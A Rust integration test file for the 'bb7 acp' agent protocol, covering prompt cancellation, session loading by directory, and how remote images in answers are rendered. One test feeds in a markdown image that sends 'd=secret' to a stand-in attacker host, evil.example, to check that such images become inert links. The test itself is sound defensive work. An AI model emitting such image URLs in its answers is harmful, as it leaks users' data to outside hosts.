//! `bb7 acp` against clients that misbehave or ask in odd places: a client that never
//! answers a read cannot hold a prompt past its cancel, a load names its project by
//! `cwd` even for a session open in the process, and a failed load leaves no `.bb7/`.

mod acp_support;
mod common;

use acp_support::*;
use agent_client_protocol::v1::schema::{CancelNotification, LoadSessionRequest};
use common::fake_env;
use serde_json::json;

#[test]
fn cancel_ends_a_prompt_whose_read_the_client_never_answers() {
    let (env, _fake) = fake_env(json!({}));
    env.write("a.txt", "a\n");
    let ed = Editor::new(true);
    ed.script(|s| s.read_never_answers = true);
    let a = env.project.join("a.txt");
    rt().block_on(run(&env.home, &env.project, &ed, async |cx, _| {
        let sid = new_session(&cx, &env.project).await?;
        let s = sid.clone();
        let (r, _) = tokio::join!(
            prompt(
                &cx,
                &sid,
                vec![link(&file_uri(&a), "a.txt"), say("Explain")]
            ),
            async {
                until(|| !ed.seen.lock().unwrap().reads.is_empty()).await;
                cx.send_notification(CancelNotification::new(s.clone()))
                    .unwrap();
            }
        );
        assert_eq!(stop(&r?), "cancelled");
        Ok(())
    }))
    .unwrap();
}

#[test]
fn load_honours_cwd_and_a_failed_load_leaves_no_project_behind() {
    let (env, _fake) = fake_env(json!({}));
    let other = env.home.join("other");
    std::fs::create_dir_all(&other).unwrap();
    let ed = Editor::new(false);
    rt().block_on(run(&env.home, &env.project, &ed, async |cx, _| {
        let sid = new_session(&cx, &env.project).await?;
        // Open here, but asked for in a directory that is no bb7 project.
        let e = cx
            .send_request(LoadSessionRequest::new(sid.clone(), &other))
            .block_task()
            .await
            .unwrap_err();
        assert_eq!(i32::from(e.code), -32002, "{e:?}");
        assert!(e.message.contains(&sid), "{}", e.message);
        // In its own project it loads.
        cx.send_request(LoadSessionRequest::new(sid.clone(), &env.project))
            .block_task()
            .await?;
        Ok(())
    }))
    .unwrap();
    assert!(!other.join(".bb7").exists(), "a failed load makes no .bb7/");
}

/// The answer's text as the client saw it, with `config` added to the test's config.
fn answer_with(config: serde_json::Value, answer: &str) -> String {
    let (env, fake) = fake_env(config);
    fake.push_sse(common::fake_model::response("", answer, vec![]));
    let ed = Editor::new(false);
    let mut sid = String::new();
    rt().block_on(run(&env.home, &env.project, &ed, async |cx, _| {
        sid = new_session(&cx, &env.project).await?;
        prompt(&cx, &sid, vec![say("Draw")]).await?;
        Ok(())
    }))
    .unwrap();
    ed.text(&sid, "agent_message_chunk")
}

#[test]
fn remote_images_in_answers_are_links_unless_the_config_lets_them_through() {
    let answer = "See ![a chart](https://evil.example/c.png?d=secret) and ![local](c.png) now.";
    assert_eq!(
        answer_with(json!({}), answer),
        "See [a chart](https://evil.example/c.png?d=secret) and ![local](c.png) now."
    );
    assert_eq!(
        answer_with(json!({"acp_remote_images": true}), answer),
        answer
    );
}
